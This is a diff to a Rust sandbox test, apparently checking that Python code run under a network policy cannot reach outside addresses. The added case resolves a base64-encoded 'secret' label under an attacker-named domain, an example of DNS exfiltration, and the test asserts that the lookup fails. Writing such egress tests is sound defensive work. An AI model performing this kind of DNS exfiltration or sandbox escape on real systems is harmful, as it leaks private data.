@@ -301,12 +301,19 @@ fn bypass_attempts_are_refused() {
                                     (socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 80))]:\n\
          \x20   s = socket.socket(family, kind)\n\
          \x20   try:\n        s.connect(addr); s.send(b'x'); print('REACHED', addr)\n\
-         \x20   except OSError as e: print(errno.errorcode[e.errno])",
+         \x20   except OSError as e: print(errno.errorcode[e.errno])\n\
+         # A name that would carry data to an attacker's DNS server resolves nowhere.\n\
+         try:\n    socket.getaddrinfo('c2VjcmV0.attacker.test', 80); print('RESOLVED')\n\
+         except socket.gaierror: print('no resolution')",
         port = up.port
     );
     let ran = run_py(&["--rm", "--policy", &policy], &code);
-    assert!(!ran.stdout.contains("REACHED"), "{ran:?}");
-    assert_eq!(ran.stdout.lines().count(), 3, "{ran:?}");
+    assert!(
+        !ran.stdout.contains("REACHED") && !ran.stdout.contains("RESOLVED"),
+        "{ran:?}"
+    );
+    assert_eq!(ran.stdout.lines().count(), 4, "{ran:?}");
+    assert!(ran.stdout.ends_with("no resolution\n"), "{ran:?}");
 }
 
 #[test]
